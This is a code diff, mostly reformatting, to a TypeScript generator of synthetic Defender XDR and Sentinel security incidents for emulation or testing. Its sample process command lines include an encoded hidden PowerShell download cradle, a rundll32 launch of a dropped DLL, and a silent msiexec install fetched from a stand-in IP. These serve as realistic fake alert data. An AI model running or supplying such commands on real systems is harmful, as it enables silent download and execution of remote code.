@@ -16,9 +16,16 @@ import {
   type Product,
   TACTICS,
 } from "./catalog";
-import { createRng, type Rng } from "./prng";
+import { createRng } from "./prng";
 import { formatTicks, parseTimestamp } from "./time";
-import type { EmulatorUser, GraphAlert, GraphComment, GraphEvidence, GraphIncident, SentinelLabel } from "./types";
+import type {
+  EmulatorUser,
+  GraphAlert,
+  GraphComment,
+  GraphEvidence,
+  GraphIncident,
+  SentinelLabel,
+} from "./types";
 
 export const DEFAULT_TENANT_ID = "b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c";
 /** Default base time of the generator (data lies in the `spanDays` before it). */
@@ -57,7 +64,12 @@ export interface SentinelIncidentSeed {
     classification?: string;
     classificationReason?: string;
     classificationComment?: string;
-    owner?: { objectId?: string | null; userPrincipalName?: string | null; email?: string | null; assignedTo?: string | null };
+    owner?: {
+      objectId?: string | null;
+      userPrincipalName?: string | null;
+      email?: string | null;
+      assignedTo?: string | null;
+    };
     labels: SentinelLabel[];
     firstActivityTimeUtc?: string;
     lastActivityTimeUtc?: string;
@@ -79,7 +91,10 @@ export interface IncidentGenerator {
   /** `count` incidents; about `redirectedFraction` of them are merged into others of the batch. */
   incidents(count: number): GraphIncident[];
   /** The copy Microsoft's Defender XDR connector would have made in Sentinel. */
-  connectorCopy(incident: GraphIncident, options?: { name?: string; providerName?: string }): SentinelIncidentSeed;
+  connectorCopy(
+    incident: GraphIncident,
+    options?: { name?: string; providerName?: string },
+  ): SentinelIncidentSeed;
   /** A native Sentinel incident (providerName "Azure Sentinel"), as an analytics rule would create. */
   sentinelIncident(): SentinelIncidentSeed;
   /** A GUID from the generator's stream. */
@@ -101,8 +116,24 @@ const SEVERITY_RANK: Record<string, number> = { unknown: 0, informational: 1, lo
 
 /** Resolved classification → plausible determinations (Graph v1.0 enum values). */
 const CLASSIFICATIONS: readonly (readonly [string, readonly string[], number])[] = [
-  ["truePositive", ["multiStagedAttack", "malware", "phishing", "compromisedAccount", "maliciousUserActivity", "unwantedSoftware", "other"], 45],
-  ["informationalExpectedActivity", ["securityTesting", "lineOfBusinessApplication", "confirmedActivity", "other"], 30],
+  [
+    "truePositive",
+    [
+      "multiStagedAttack",
+      "malware",
+      "phishing",
+      "compromisedAccount",
+      "maliciousUserActivity",
+      "unwantedSoftware",
+      "other",
+    ],
+    45,
+  ],
+  [
+    "informationalExpectedActivity",
+    ["securityTesting", "lineOfBusinessApplication", "confirmedActivity", "other"],
+    30,
+  ],
   ["falsePositive", ["notMalicious", "notEnoughDataToValidate", "other"], 25],
 ];
 
@@ -170,7 +201,11 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
     };
   }
 
-  function evidence(kind: EvidenceKind, created: string, ctx: { device: string; user: EmulatorUser }): GraphEvidence {
+  function evidence(
+    kind: EvidenceKind,
+    created: string,
+    ctx: { device: string; user: EmulatorUser },
+  ): GraphEvidence {
     const baseFields = {
       createdDateTime: created,
       verdict: rng.weighted([
@@ -225,7 +260,9 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
           ipInterfaces: [ip(), ip()],
           lastIpAddress: ip(),
           lastExternalIpAddress: ip(),
-          loggedOnUsers: [{ accountName: ctx.user.userPrincipalName.split("@")[0]!.toLowerCase(), domainName: "CONTOSO" }],
+          loggedOnUsers: [
+            { accountName: ctx.user.userPrincipalName.split("@")[0]!.toLowerCase(), domainName: "CONTOSO" },
+          ],
           vmMetadata: vm
             ? {
                 vmId: rng.guid(),
@@ -300,15 +337,21 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
           processCommandLine: rng.pick([
             '"MsSense.exe"',
             "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
-            'rundll32.exe C:\\Users\\Public\\x.dll,Start',
+            "rundll32.exe C:\\Users\\Public\\x.dll,Start",
             "msiexec /q /i http://203.0.113.7/a.msi",
           ]),
           processCreationDateTime: created2,
           parentProcessCreationDateTime: ts(toTicks(created2) - BigInt(rng.int(1000, 6_000_000)) * 10_000n),
           detectionStatus: rng.pick(["detected", "blocked", "prevented"]),
           mdeDeviceId: rng.hex(40),
-          imageFile: fileDetails(rng.pick(["powershell.exe", "rundll32.exe", "MsSense.exe", "msiexec.exe"]), "C:\\Windows\\System32"),
-          parentProcessImageFile: fileDetails(rng.pick(["explorer.exe", "services.exe", "winword.exe"]), "C:\\Windows"),
+          imageFile: fileDetails(
+            rng.pick(["powershell.exe", "rundll32.exe", "MsSense.exe", "msiexec.exe"]),
+            "C:\\Windows\\System32",
+          ),
+          parentProcessImageFile: fileDetails(
+            rng.pick(["explorer.exe", "services.exe", "winword.exe"]),
+            "C:\\Windows",
+          ),
           userAccount: userAccount(ctx.user),
         };
       }
@@ -337,8 +380,16 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
           ]),
           senderIp: ip(),
           recipientEmailAddress: ctx.user.email,
-          p1Sender: { displayName: "IT Service Desk", domainName: "example.net", emailAddress: `helpdesk@${rng.hex(6)}.example.net` },
-          p2Sender: { displayName: "IT Service Desk", domainName: "example.net", emailAddress: "noreply@example.net" },
+          p1Sender: {
+            displayName: "IT Service Desk",
+            domainName: "example.net",
+            emailAddress: `helpdesk@${rng.hex(6)}.example.net`,
+          },
+          p2Sender: {
+            displayName: "IT Service Desk",
+            domainName: "example.net",
+            emailAddress: "noreply@example.net",
+          },
           antiSpamDirection: "inbound",
           deliveryAction: rng.pick(["delivered", "blocked", "junked", "replaced"]),
           deliveryLocation: rng.pick(["inbox", "junkFolder", "quarantine", "deletedFolder"]),
@@ -359,7 +410,7 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
           clusterByValue: rng.hex(16),
           emailCount: rng.int(2, 400),
           networkMessageIds: [rng.guid(), rng.guid()],
-          query: "(Subject:\"Action required\") AND (P2SenderDomain:example.net)",
+          query: '(Subject:"Action required") AND (P2SenderDomain:example.net)',
           urn: `urn:MailClusterEntity:${rng.hex(32)}`,
         };
       case "cloudApplication":
@@ -367,7 +418,12 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
           "@odata.type": type("cloudApplicationEvidence"),
           ...baseFields,
           appId: rng.pick([11161, 20893, 15600, 28375]),
-          displayName: rng.pick(["Microsoft Exchange Online", "Microsoft SharePoint Online", "Microsoft OneDrive for Business", "Box"]),
+          displayName: rng.pick([
+            "Microsoft Exchange Online",
+            "Microsoft SharePoint Online",
+            "Microsoft OneDrive for Business",
+            "Box",
+          ]),
           instanceId: 0,
           instanceName: rng.pick(["Microsoft 365", "Box"]),
           saasAppId: rng.pick([11161, 20893, 15600]),
@@ -413,13 +469,21 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
     }
   }
 
-  function makeAlert(incidentId: string, product: Product, createdTicks: bigint, ctx: { device: string; user: EmulatorUser }): GraphAlert {
+  function makeAlert(
+    incidentId: string,
+    product: Product,
+    createdTicks: bigint,
+    ctx: { device: string; user: EmulatorUser },
+  ): GraphAlert {
     const template = rng.pick(product.templates);
     const id = alertId(product);
     const created = ts(createdTicks);
     const first = ts(createdTicks - BigInt(rng.int(60_000, 7_200_000)) * 10_000n);
     const last = ts(createdTicks - BigInt(rng.int(0, 60_000)) * 10_000n);
-    const kinds = [...product.mainEvidence, ...rng.sample(product.evidence, rng.int(1, Math.min(4, product.evidence.length)))];
+    const kinds = [
+      ...product.mainEvidence,
+      ...rng.sample(product.evidence, rng.int(1, Math.min(4, product.evidence.length))),
+    ];
     return {
       "@odata.type": "#microsoft.graph.security.alert",
       id,
@@ -441,7 +505,8 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
       tenantId,
       title: template.title,
       description: template.description,
-      recommendedActions: "Collect artifacts and determine scope\n\u2022\tReview the machine timeline for suspicious activities.\n\u2022\tIf credential theft is suspected, reset all relevant users\u2019 passwords.",
+      recommendedActions:
+        "Collect artifacts and determine scope\n\u2022\tReview the machine timeline for suspicious activities.\n\u2022\tIf credential theft is suspected, reset all relevant users\u2019 passwords.",
       category: template.category,
       assignedTo: null,
       alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${tenantId}`,
@@ -455,7 +520,14 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
       resolvedDateTime: null,
       firstActivityDateTime: first,
       lastActivityDateTime: last,
-      investigationState: rng.pick(["unknown", "running", "successfullyRemediated", "benign", "pendingApproval", "terminatedBySystem"]),
+      investigationState: rng.pick([
+        "unknown",
+        "running",
+        "successfullyRemediated",
+        "benign",
+        "pendingApproval",
+        "terminatedBySystem",
+      ]),
       alertPolicyId: product.key === "mdo" || product.key === "dlp" ? rng.guid() : null,
       systemTags: [],
       comments: [],
@@ -464,7 +536,22 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
   }
 
   function longText(words: number): string {
-    const vocab = ["lorem", "ipsum", "Überprüfung", "lateral", "movement", "攻撃", "credential", "token", "café", "naïve", "—", "🙂", "exfiltration", "beacon"];
+    const vocab = [
+      "lorem",
+      "ipsum",
+      "Überprüfung",
+      "lateral",
+      "movement",
+      "攻撃",
+      "credential",
+      "token",
+      "café",
+      "naïve",
+      "—",
+      "🙂",
+      "exfiltration",
+      "beacon",
+    ];
     const out: string[] = [];
     for (let i = 0; i < words; i++) out.push(rng.pick(vocab));
     return out.join(" ");
@@ -472,7 +559,8 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
 
   function makeIncident(overrides: Partial<GraphIncident> = {}): GraphIncident {
     const id = String(nextId++);
-    const createdTicks = base - BigInt(rng.int(3_600_000, Math.max(3_600_001, Number(spanTicks / 10_000n)))) * 10_000n;
+    const createdTicks =
+      base - BigInt(rng.int(3_600_000, Math.max(3_600_001, Number(spanTicks / 10_000n)))) * 10_000n - BigInt(rng.int(0, 9999));
     const user = rng.pick(users);
     const device = rng.pick(HOSTNAMES);
     const ctx = { device, user };
@@ -488,7 +576,8 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
     const alerts: GraphAlert[] = [];
     let t = createdTicks;
     for (let i = 0; i < nAlerts; i++) {
-      const product = i === 0 || rng.chance(0.6) ? primary : rng.weighted(PRODUCTS.map((p) => [p, p.weight] as const));
+      const product =
+        i === 0 || rng.chance(0.6) ? primary : rng.weighted(PRODUCTS.map((p) => [p, p.weight] as const));
       alerts.push(makeAlert(id, product, t, ctx));
       t = after(t, 1000, 1_800_000);
     }
@@ -498,7 +587,11 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
     );
     const categories = [...new Set(alerts.map((a) => a.category))];
     const products = new Set(alerts.map((a) => a.serviceSource));
-    const onWhat = products.has("microsoftDefenderForEndpoint") ? (alerts.length > 2 ? "multiple endpoints" : "one endpoint") : "one user";
+    const onWhat = products.has("microsoftDefenderForEndpoint")
+      ? alerts.length > 2
+        ? "multiple endpoints"
+        : "one endpoint"
+      : "one user";
     let displayName =
       alerts.length === 1
         ? `'${alerts[0]!.title}' on ${onWhat}`
@@ -518,7 +611,10 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
       ["resolved", 33],
       ["awaitingAction", 3],
     ] as const);
-    const assignedTo = status === "resolved" || status === "inProgress" || rng.chance(0.4) ? rng.pick(users).userPrincipalName : null;
+    const assignedTo =
+      status === "resolved" || status === "inProgress" || rng.chance(0.4)
+        ? rng.pick(users).userPrincipalName
+        : null;
     let classification: string | null = "unknown";
     let determination: string | null = "unknown";
     let resolvingComment: string | null = null;
@@ -526,12 +622,13 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
       const [c, dets] = rng.weighted(CLASSIFICATIONS.map(([c, d, w]) => [[c, d] as const, w] as const));
       classification = c;
       determination = rng.pick(dets);
-      if (status === "resolved") resolvingComment = rng.pick([
-        "Closed after remediation.",
-        "Benign: scheduled red-team exercise.",
-        "False positive – tuning the rule.",
-        "Geschlossen nach Rücksprache mit dem Nutzer.",
-      ]);
+      if (status === "resolved")
+        resolvingComment = rng.pick([
+          "Closed after remediation.",
+          "Benign: scheduled red-team exercise.",
+          "False positive – tuning the rule.",
+          "Geschlossen nach Rücksprache mit dem Nutzer.",
+        ]);
     }
     const comments: GraphComment[] = [];
     let ct = createdTicks;
@@ -572,12 +669,15 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
       determination,
       status,
       severity,
-      customTags: rng.sample(CUSTOM_TAGS, rng.weighted([
-        [0, 45],
-        [1, 30],
-        [2, 18],
-        [3, 7],
-      ] as const)),
+      customTags: rng.sample(
+        CUSTOM_TAGS,
+        rng.weighted([
+          [0, 45],
+          [1, 30],
+          [2, 18],
+          [3, 7],
+        ] as const),
+      ),
       systemTags,
       comments,
       description,
@@ -604,14 +704,27 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
     return { ...incident, ...overrides };
   }
 
-  function connectorCopy(incident: GraphIncident, opts: { name?: string; providerName?: string } = {}): SentinelIncidentSeed {
+  function connectorCopy(
+    incident: GraphIncident,
+    opts: { name?: string; providerName?: string } = {},
+  ): SentinelIncidentSeed {
     const sev = { high: "High", medium: "Medium", low: "Low" }[incident.severity] ?? "Informational";
-    let status = incident.status === "resolved" || incident.status === "redirected" ? "Closed" : incident.assignedTo || incident.status !== "active" ? "Active" : "New";
+    let status =
+      incident.status === "resolved" || incident.status === "redirected"
+        ? "Closed"
+        : incident.assignedTo || incident.status !== "active"
+          ? "Active"
+          : "New";
     if (incident.status === "inProgress" || incident.status === "awaitingAction") status = "Active";
-    const closing = status === "Closed" ? classificationToSentinel(incident.classification, incident.determination) : undefined;
+    const closing =
+      status === "Closed"
+        ? classificationToSentinel(incident.classification, incident.determination)
+        : undefined;
     const owner = incident.assignedTo
       ? (() => {
-          const u = users.find((x) => x.userPrincipalName.toLowerCase() === incident.assignedTo!.toLowerCase());
+          const u = users.find(
+            (x) => x.userPrincipalName.toLowerCase() === incident.assignedTo!.toLowerCase(),
+          );
           return u ? { objectId: u.objectId } : { userPrincipalName: incident.assignedTo };
         })()
       : undefined;
@@ -620,7 +733,9 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
     const created = toTicks(incident.createdDateTime) + BigInt(rng.int(20_000, 600_000)) * 10_000n; // connector latency ≤ 10 min
     let modified = toTicks(incident.lastUpdateDateTime) + BigInt(rng.int(1000, 120_000)) * 10_000n;
     if (modified < created) modified = created + BigInt(rng.int(1, 9999));
-    const alerts = incident.alerts.slice(0, 150).map((a) => ({ kind: "SecurityAlert" as const, properties: sentinelAlertProperties(a) }));
+    const alerts = incident.alerts
+      .slice(0, 150)
+      .map((a) => ({ kind: "SecurityAlert" as const, properties: sentinelAlertProperties(a) }));
     return {
       name: opts.name ?? rng.guid(),
       properties: {
@@ -629,20 +744,28 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
         status,
         // XDR incidents arrive without description in Sentinel (Azure/Azure-Sentinel#10446).
         ...(closing ?? {}),
-        ...(status === "Closed" && incident.resolvingComment ? { classificationComment: incident.resolvingComment } : {}),
+        ...(status === "Closed" && incident.resolvingComment
+          ? { classificationComment: incident.resolvingComment }
+          : {}),
         ...(owner ? { owner } : {}),
         labels,
-        firstActivityTimeUtc: minOf(incident.alerts.map((a) => a.firstActivityDateTime)) ?? incident.createdDateTime,
-        lastActivityTimeUtc: maxOf(incident.alerts.map((a) => a.lastActivityDateTime)) ?? incident.createdDateTime,
+        firstActivityTimeUtc:
+          minOf(incident.alerts.map((a) => a.firstActivityDateTime)) ?? incident.createdDateTime,
+        lastActivityTimeUtc:
+          maxOf(incident.alerts.map((a) => a.lastActivityDateTime)) ?? incident.createdDateTime,
         providerName: opts.providerName ?? (rng.chance(0.1) ? "Microsoft 365 Defender" : "Microsoft XDR"),
         providerIncidentId: incident.id,
         createdTimeUtc: ts(created),
         lastModifiedTimeUtc: ts(modified),
         additionalData: {
           alertsCount: incident.alerts.length,
-          alertProductNames: [...new Set(incident.alerts.map((a) => productOf(a.serviceSource).sentinelProductName))],
+          alertProductNames: [
+            ...new Set(incident.alerts.map((a) => productOf(a.serviceSource).sentinelProductName)),
+          ],
           tactics: [...new Set(incident.alerts.map((a) => a.category).filter((c) => TACTICS.has(c)))],
-          techniques: [...new Set(incident.alerts.flatMap((a) => a.mitreTechniques.map((m) => m.split(".")[0]!)))],
+          techniques: [
+            ...new Set(incident.alerts.flatMap((a) => a.mitreTechniques.map((m) => m.split(".")[0]!))),
+          ],
           providerIncidentUrl: incident.incidentWebUrl,
         },
       },
@@ -652,7 +775,8 @@ export function createIncidentGenerator(options: IncidentGeneratorOptions = {}):
   }
 
   function sentinelIncident(): SentinelIncidentSeed {
-    const createdTicks = base - BigInt(rng.int(3_600_000, Math.max(3_600_001, Number(spanTicks / 10_000n)))) * 10_000n;
+    const createdTicks =
+      base - BigInt(rng.int(3_600_000, Math.max(3_600_001, Number(spanTicks / 10_000n)))) * 10_000n - BigInt(rng.int(0, 9999));
     const product = productOf("microsoftSentinel");
     const user = rng.pick(users);
     const a = makeAlert("0", product, createdTicks, { device: rng.pick(HOSTNAMES), user });
@@ -770,7 +894,8 @@ export function classificationToSentinel(
     case "falsepositive":
       return {
         classification: "FalsePositive",
-        classificationReason: determination === "notEnoughDataToValidate" ? "InaccurateData" : "IncorrectAlertLogic",
+        classificationReason:
+          determination === "notEnoughDataToValidate" ? "InaccurateData" : "IncorrectAlertLogic",
       };
     default:
       return { classification: "Undetermined" };
@@ -819,7 +944,13 @@ export function entitiesOf(alerts: GraphAlert[]): { kind: string; properties: Re
       const f = e as Record<string, any>;
       switch (type) {
         case "deviceEvidence":
-          add("Host", String(f.hostName), { hostName: f.hostName, dnsDomain: f.dnsDomain, ntDomain: f.ntDomain, osFamily: f.osPlatform, omsAgentID: undefined });
+          add("Host", String(f.hostName), {
+            hostName: f.hostName,
+            dnsDomain: f.dnsDomain,
+            ntDomain: f.ntDomain,
+            osFamily: f.osPlatform,
+            omsAgentID: undefined,
+          });
           break;
         case "userEvidence":
           add("Account", String(f.userAccount?.accountName), {
@@ -832,13 +963,19 @@ export function entitiesOf(alerts: GraphAlert[]): { kind: string; properties: Re
           });
           break;
         case "ipEvidence":
-          add("Ip", String(f.ipAddress), { address: f.ipAddress, location: { countryCode: f.countryLetterCode, city: f.location?.city } });
+          add("Ip", String(f.ipAddress), {
+            address: f.ipAddress,
+            location: { countryCode: f.countryLetterCode, city: f.location?.city },
+          });
           break;
         case "urlEvidence":
           add("Url", String(f.url), { url: f.url });
           break;
         case "fileEvidence":
-          add("File", String(f.fileDetails?.fileName), { fileName: f.fileDetails?.fileName, directory: f.fileDetails?.filePath });
+          add("File", String(f.fileDetails?.fileName), {
+            fileName: f.fileDetails?.fileName,
+            directory: f.fileDetails?.filePath,
+          });
           break;
         case "processEvidence":
           add("Process", `${f.imageFile?.fileName ?? "process"}:${f.processId}`, {
@@ -848,7 +985,11 @@ export function entitiesOf(alerts: GraphAlert[]): { kind: string; properties: Re
           });
           break;
         case "mailboxEvidence":
-          add("Mailbox", String(f.primaryAddress), { mailboxPrimaryAddress: f.primaryAddress, displayName: f.displayName, upn: f.upn });
+          add("Mailbox", String(f.primaryAddress), {
+            mailboxPrimaryAddress: f.primaryAddress,
+            displayName: f.displayName,
+            upn: f.upn,
+          });
           break;
         case "analyzedMessageEvidence":
           add("MailMessage", String(f.networkMessageId), {
@@ -861,17 +1002,32 @@ export function entitiesOf(alerts: GraphAlert[]): { kind: string; properties: Re
           });
           break;
         case "mailClusterEvidence":
-          add("MailCluster", String(f.clusterByValue), { clusterSourceIdentifier: f.clusterByValue, query: f.query, mailCount: f.emailCount });
+          add("MailCluster", String(f.clusterByValue), {
+            clusterSourceIdentifier: f.clusterByValue,
+            query: f.query,
+            mailCount: f.emailCount,
+          });
           break;
         case "registryKeyEvidence":
         case "registryValueEvidence":
-          add("RegistryKey", `${f.registryHive}\\${f.registryKey}`, { hive: f.registryHive, key: f.registryKey });
+          add("RegistryKey", `${f.registryHive}\\${f.registryKey}`, {
+            hive: f.registryHive,
+            key: f.registryKey,
+          });
           break;
         case "cloudApplicationEvidence":
-          add("CloudApplication", String(f.displayName), { appId: f.appId, appName: f.displayName, instanceName: f.instanceName });
+          add("CloudApplication", String(f.displayName), {
+            appId: f.appId,
+            appName: f.displayName,
+            instanceName: f.instanceName,
+          });
           break;
         case "securityGroupEvidence":
-          add("SecurityGroup", String(f.displayName), { distinguishedName: f.distinguishedName, sid: f.sid, objectGuid: f.activeDirectoryObjectGuid });
+          add("SecurityGroup", String(f.displayName), {
+            distinguishedName: f.distinguishedName,
+            sid: f.sid,
+            objectGuid: f.activeDirectoryObjectGuid,
+          });
           break;
         default:
           break;
@@ -890,12 +1046,15 @@ function maxTicks(a: bigint, b: bigint): bigint {
 }
 
 function minOf(values: string[]): string | undefined {
-  return values.reduce<string | undefined>((m, v) => (m === undefined || (parseTimestamp(v, 9) ?? 0n) < (parseTimestamp(m, 9) ?? 0n) ? v : m), undefined);
+  return values.reduce<string | undefined>(
+    (m, v) => (m === undefined || (parseTimestamp(v, 9) ?? 0n) < (parseTimestamp(m, 9) ?? 0n) ? v : m),
+    undefined,
+  );
 }
 
 function maxOf(values: string[]): string | undefined {
-  return values.reduce<string | undefined>((m, v) => (m === undefined || (parseTimestamp(v, 9) ?? 0n) > (parseTimestamp(m, 9) ?? 0n) ? v : m), undefined);
+  return values.reduce<string | undefined>(
+    (m, v) => (m === undefined || (parseTimestamp(v, 9) ?? 0n) > (parseTimestamp(m, 9) ?? 0n) ? v : m),
+    undefined,
+  );
 }
-
-/** Re-exported so tests can check which Rng the generator uses. */
-export type { Rng };
